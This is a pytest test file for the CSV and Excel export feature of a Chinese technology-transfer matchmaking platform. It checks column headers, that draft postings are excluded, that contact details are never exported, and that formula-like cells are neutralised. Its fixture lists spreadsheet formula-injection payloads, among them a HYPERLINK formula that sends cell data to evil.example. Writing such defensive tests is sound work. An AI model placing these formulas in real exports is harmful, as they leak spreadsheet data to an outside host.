"""Exports: Chinese lists of published postings, interests and deals; no contacts; no formulas."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest

from matchmaker.extensions import db
from matchmaker.models import Deal, Interest
from matchmaker.services import transfer

CONTACTS = (
    "王联系",
    "010-5555 1234",
    "wang.contact@example.com",
    "李需求",
    "0311-5555 6789",
    "li.need@example.com",
    "bj@example.com",
    "hb@example.com",
    "010-5555 0000",
    "请加微信 13800000000",
)
NASTY = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-1", "@SUM(A1:A9)", "\tTAB", "\rCR"]


@pytest.fixture
def pool(app, world, make):
    """Published postings (some with formula-like titles), a draft, an interest and a deal."""
    ach = make.achievement(world["bj_org"], modes=["license", "equity"])
    for title in NASTY:
        make.achievement(world["tj_org"], title=title, price_min=None, price_max=None)
    make.achievement(world["bj_org"], status="draft", title="草稿成果不应导出")
    need = make.need(world["hb_org"])
    make.need(world["hb_org"], status="pending", title="待审需求不应导出")
    with app.app_context():
        interest = Interest(
            need_id=need,
            achievement_id=ach,
            initiator_org_id=world["hb_org"],
            recipient_org_id=world["bj_org"],
            initiator_user_id=world["hb"],
            message="请加微信 13800000000",
            status="deal_signed",
        )
        db.session.add(interest)
        db.session.flush()
        db.session.add(
            Deal(
                interest_id=interest.id,
                contract_type="license",
                amount_wan=Decimal("88.50"),
                signed_on=date(2026, 10, 9),
                registration_no="1301042026000123",
            )
        )
        db.session.commit()
    return {"ach": ach, "need": need}


def export(app, what, fmt) -> bytes:
    with app.app_context():
        return transfer.export_file(what, fmt, base_url="https://pool.example.cn")


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, so Excel reads Chinese
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_rows(data: bytes) -> list[list]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    rows = [list(r) for r in book.worksheets[0].iter_rows(values_only=True)]
    book.close()
    return rows


def test_achievement_list_in_csv(app, pool):
    rows = csv_rows(export(app, "achievements", "csv"))
    assert rows[0] == [
        "序号",
        "名称",
        "单位",
        "所在地区",
        "领域",
        "成熟度",
        "合作方式",
        "价格(万元)",
        "发布日期",
        "链接",
    ]
    assert len(rows) == 1 + 1 + len(NASTY)  # published only: the draft is not listed
    first = rows[1]
    assert first[:8] == [
        "1",
        "高性能锂电池正极材料制备技术",
        "京华理工大学",
        "北京·海淀区",
        "新材料",
        "TRL 6 · 中试/工程样机",
        "许可、作价投资",
        "50–120",
    ]
    assert first[8] == date.today().isoformat() or len(first[8]) == 10
    assert first[9] == f"https://pool.example.cn/achievements/{pool['ach']}"
    assert rows[2][7] == "面议"


def test_need_interest_and_deal_lists(app, pool):
    needs = csv_rows(export(app, "needs", "csv"))
    assert needs[0][:8] == ["序号", "名称", "单位", "所在地区", "领域", "最低成熟度", "合作方式", "预算(万元)"]
    assert (
        len(needs) == 2
        and needs[1][2:5] == ["冀东新材料有限公司", "河北·唐山", "新材料"]
        and needs[1][8] == "2099-12-31"
    )
    interests = csv_rows(export(app, "interests", "csv"))
    assert interests[0] == ["序号", "需求", "成果", "需求方", "供给方", "发起方", "状态", "日期"]
    assert interests[1][1:7] == [
        "动力电池正极材料循环寿命提升",
        "高性能锂电池正极材料制备技术",
        "冀东新材料有限公司",
        "京华理工大学",
        "冀东新材料有限公司",
        "已成交",
    ]
    deals = xlsx_rows(export(app, "deals", "xlsx"))
    assert deals[0] == [
        "序号",
        "合同类型",
        "金额(万元)",
        "签订日期",
        "登记号",
        "需求",
        "成果",
        "需求方",
        "需求方地区",
        "供给方",
        "供给方地区",
        "流向",
    ]
    row = deals[1]
    assert row[1] == "技术许可" and float(row[2]) == 88.5 and row[3].date() == date(2026, 10, 9)
    assert (
        row[4] == "1301042026000123" and row[8] == "河北·唐山" and row[10] == "北京·海淀区" and row[11] == "北京→河北"
    )


@pytest.mark.parametrize("what", ["achievements", "needs", "interests", "deals"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_contact_details_are_never_exported(app, pool, what, fmt):
    data = export(app, what, fmt)
    text = data.decode("utf-8-sig") if fmt == "csv" else repr(xlsx_rows(data))
    for secret in CONTACTS:
        assert secret not in text, (what, secret)


def test_formula_like_cells_are_neutralised_in_csv_and_xlsx(app, pool):
    in_csv = {row[1] for row in csv_rows(export(app, "achievements", "csv"))[1:]}
    book = openpyxl.load_workbook(io.BytesIO(export(app, "achievements", "xlsx")))
    sheet = book.worksheets[0]
    assert sheet.title == "成果清单"
    cells = [sheet.cell(row=r, column=2) for r in range(2, sheet.max_row + 1)]
    book.close()
    for title in NASTY:
        assert "'" + title in in_csv
        assert "'" + title.replace("\r", "\n") in {c.value for c in cells}  # XML reads CR back as LF
    assert all(c.data_type == "s" for c in cells)  # text, never a formula


def test_the_xlsx_template_documents_every_column(app):
    with app.app_context():
        data = transfer.template_file("achievement", "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(data))
    main, guide = book.worksheets
    header = [c.value for c in main[1]]
    notes = [c.value for c in main[2]]
    assert header[:3] == ["编号 external_id", "发布单位统一社会信用代码 org_credit_code", "标题 title"]
    assert (
        notes[0].startswith("#")
        and "materials 新材料" in notes[3]
        and "万元" in notes[header.index("价格下限（万元） price_min")]
    )
    guide_text = repr([[c.value for c in row] for row in guide.iter_rows()])
    assert (
        "可填值：领域" in guide_text
        and "'发明专利', 'invention'" in guide_text
        and "'中试/工程样机', '6'" in guide_text
    )
    book.close()


def test_cli_export_and_template(app, runner, pool, tmp_path):
    out = tmp_path / "成果.xlsx"
    result = runner.invoke(args=["pool", "export", "--what", "achievements", "--format", "xlsx", "-o", str(out)])
    assert result.exit_code == 0, result.output
    rows = xlsx_rows(out.read_bytes())
    assert rows[0][0] == "序号" and rows[1][9].endswith(f"/achievements/{pool['ach']}")
    out_csv = tmp_path / "deals.csv"
    assert runner.invoke(args=["pool", "export", "--what", "deals", "-o", str(out_csv)]).exit_code == 0
    assert csv_rows(out_csv.read_bytes())[1][1] == "技术许可"
    template = tmp_path / "need.csv"
    assert (
        runner.invoke(args=["pool", "template", "--kind", "need", "--format", "csv", "-o", str(template)]).exit_code
        == 0
    )
    assert csv_rows(template.read_bytes())[0][2] == "标题 title"
